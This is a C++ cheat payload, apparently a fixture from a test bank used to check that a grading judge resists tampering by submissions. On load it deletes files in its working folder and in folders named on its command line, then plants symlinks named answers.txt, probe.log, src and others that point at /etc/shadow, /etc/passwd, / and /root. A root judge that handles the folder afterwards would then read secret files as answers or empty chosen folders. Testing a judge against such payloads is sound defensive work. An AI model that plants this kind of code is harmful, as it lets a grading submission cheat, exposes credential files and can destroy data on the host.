// Cheat: the probe leaves symbolic links where a judge might look after it ended: in its working
// folder and beside every file named on its command line, links named answers.txt, kernel.fatbin,
// probe, probe.log, run and src pointing at files and folders of the judge's (/etc/shadow, /,
// /root). A judge that reads, copies or deletes the probe's folder afterwards (as root) follows them:
// it reads a file of its choosing as its answers, or empties a folder of the student's choosing.
// The judge never reads, follows or deletes anything in a folder a submission could write.
// APPLIES: all
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-SYMLINKS
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <string>

namespace banklab_cheat_symlinks {
inline void plant(const std::string& dir) {
  const char* names[] = {"answers.txt", "kernel.fatbin", "probe", "probe.log", "run", "src", "stamp"};
  const char* targets[] = {"/etc/shadow", "/", "/root", "/etc/passwd", "/", "/root", "/etc/hostname"};
  for (int i = 0; i < 7; ++i) {
    const std::string p = dir + "/" + names[i];
    unlink(p.c_str());
    if (symlink(targets[i], p.c_str()) == 0) std::printf("BANKLAB-CHEAT-LINKED %s\n", p.c_str());
  }
}
const int kPlanted = [] {
  std::printf("BANKLAB-PAYLOAD-SYMLINKS ran\n");
  plant(".");
  std::ifstream f("/proc/self/cmdline", std::ios::binary);
  for (std::string a; std::getline(f, a, '\0');)
    if (!a.empty() && a[0] == '/') plant(a.substr(0, a.find_last_of('/')));
  std::fflush(stdout);
  return 0;
}();
}  // namespace banklab_cheat_symlinks
